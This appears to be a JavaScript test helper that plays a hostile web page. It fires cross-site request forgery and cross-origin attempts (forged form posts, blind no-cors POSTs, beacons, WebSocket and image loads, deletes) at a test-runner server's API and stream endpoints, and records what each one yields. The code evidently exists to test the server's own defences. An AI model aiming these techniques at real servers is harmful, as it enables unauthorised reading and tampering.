// What a hostile page does to a server that it finds: each attempt ends with what it got, or "nothing".
const PATIENCE = 10_000;

function attempt(work) {
  const late = new Promise((done) => setTimeout(() => done("nothing"), PATIENCE));
  return Promise.race([work().catch(() => "nothing"), late]);
}

function loads(tag, url) {
  return new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => done("nothing");
    element.src = url;
    document.body.append(element);
  });
}

function connects(url, protocol) {
  return new Promise((done) => {
    const socket = new WebSocket(url.replace("http", "ws"), protocol);
    socket.onopen = () => done("open");
    socket.onmessage = (message) => done(message.data);
    socket.onerror = () => done("nothing");
  });
}

/** A form's answer comes into a frame that cannot be read: what it did is for the server to say. */
function posts(url, body) {
  return new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` });
    const form = Object.assign(document.createElement("form"), {
      action: url,
      method: "post",
      enctype: "text/plain",
      target: frame.name,
    });
    const [name, value] = body.split("=");
    form.append(Object.assign(document.createElement("input"), { name, value: value ?? "" }));
    document.body.append(frame, form);
    frame.onload = () => done("nothing");
    form.submit();
  });
}

const reads = async (url, options) => `${(await fetch(url, options)).status} ${url}`;
const text = { "Content-Type": "text/plain" };
const blind = (url, body) => fetch(url, { method: "POST", mode: "no-cors", headers: text, body });

/** Every attempt on a server's API and frames, by name; `query` may carry a credential that was stolen. */
async function attack({ api, frames, run, query }) {
  const made = JSON.stringify({ url: `${location.origin}/`, steps: [], name: "made by a page=" });
  const attempts = {
    "read runs": () => reads(`${api}/api/tests${query}`),
    "read a run": () => reads(`${api}/api/tests/${run}${query}`),
    "read steps": () => reads(`${api}/api/tests/${run}/steps${query}`),
    "read metrics": () => reads(`${api}/metrics`),
    "make a run": () => reads(`${api}/api/tests${query}`, { method: "POST", body: made }),
    "make a run as JSON": () =>
      reads(`${api}/api/tests${query}`, { method: "POST", headers: { "Content-Type": "application/json" }, body: made }),
    "make a run blindly": async () => (await blind(`${api}/api/tests${query}`, made)) && "nothing",
    "make a run by a form": () => posts(`${api}/api/tests${query}`, made),
    "pause": async () => (await blind(`${api}/api/tests/${run}/pause${query}`, "")) && "nothing",
    "cancel by a form": () => posts(`${api}/api/tests/${run}/cancel${query}`, "a=b"),
    "cancel by a beacon": async () => navigator.sendBeacon(`${api}/api/tests/${run}/cancel${query}`, "") && "nothing",
    "delete": () => reads(`${api}/api/tests/${run}${query}`, { method: "DELETE" }),
    "WHEP": () => reads(`${api}/whep/${run}${query}`, { method: "POST", headers: { "Content-Type": "application/sdp" }, body: "v=0" }),
    "WHEP blindly": async () => (await blind(`${api}/whep/${run}${query}`, "v=0")) && "nothing",
    "WebSocket": () => connects(`${api}/ws/test-control${query || "?"}&runId=${run}`),
    "API as a script": () => loads("script", `${api}/api/tests${query}`),
    "read a frame": () => reads(`${frames}/stream/${run}${query}`),
  };
  if (!query) {
    attempts["picture"] = () => loads("img", `${frames}/stream/${run}`);
    attempts["MJPEG"] = () => loads("img", `${frames}/stream/${run}.mjpeg`);
    attempts["thumbnail"] = () => loads("img", `${api}/api/tests/${run}/steps/1/screenshot`);
  }
  const names = Object.keys(attempts);
  const got = await Promise.all(names.map((name) => attempt(attempts[name])));
  return Object.fromEntries(names.map((name, index) => [name, got[index]]));
}

/** Whether anything answers there at all; the answer itself cannot be read. */
const answers = (url) => fetch(url, { mode: "no-cors" }).then(() => true, () => false);
